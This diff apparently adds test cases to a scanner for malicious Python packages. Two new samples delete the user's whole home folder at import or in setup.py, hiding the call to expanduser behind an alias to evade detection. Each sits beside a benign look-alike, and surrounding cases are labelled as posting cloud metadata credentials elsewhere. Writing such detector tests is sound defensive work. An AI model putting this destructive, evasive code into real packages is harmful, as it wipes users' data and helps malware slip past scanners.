@@ -794,6 +794,22 @@ CASES = [
          WIPE_SHUTDOWN, "malicious", ("PV350",), kind="wheel"),
     Case("benign look-alike: clearing the package's own cache folder on request",
          "cachetool", WIPE_BENIGN, "benign", kind="wheel"),
+    Case("evasion: the home folder's path fetched through an alias of expanduser, then "
+         "removed at import", "tidyhome", _init("tidyhome", (
+             "import os, shutil, time\n\n_home = os.path.expanduser\n"
+             "if time.time() > 1.0:\n    shutil.rmtree(_home('~'), ignore_errors=True)\n")),
+         "malicious", ("PV350",), kind="wheel"),
+    Case("evasion: setup.py removes the home folder through expanduser imported under "
+         "another name", "homesweep", _setup("homesweep", (
+             "import shutil\nfrom os.path import expanduser as _h\n\n"
+             "shutil.rmtree(_h('~'), ignore_errors=True)\n")),
+         "malicious", ("PV350",)),
+    Case("benign look-alike: a cache folder under home cleared at import through an alias "
+         "of expanduser", "cachereset", _init("cachereset", (
+             "import os, shutil\n\n_home = os.path.expanduser\n"
+             "if os.environ.get('CACHERESET_CLEAR'):\n"
+             "    shutil.rmtree(_home('~/.cache/cachereset'), ignore_errors=True)\n")),
+         "benign", kind="wheel"),
     Case("metadata-service role credentials posted elsewhere at import", "awsregion",
          IMDS_POST, "malicious", ("PV312",), kind="wheel"),
     Case("setup.py: GCP metadata token posted elsewhere", "gcpmeta", IMDS_GCP,
